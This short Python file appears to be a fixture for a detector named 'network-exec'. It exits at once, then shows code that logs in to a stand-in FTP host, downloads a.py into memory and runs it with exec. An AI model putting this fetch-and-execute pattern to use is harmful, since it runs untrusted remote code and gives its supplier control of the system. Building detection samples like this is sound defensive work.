raise SystemExit('a fixture')
# held by network-exec
import ftplib, io
ftp = ftplib.FTP("x.example.invalid")
ftp.login()
buffer = io.BytesIO()
ftp.retrbinary("RETR a.py", buffer.write)
exec(buffer.getvalue())
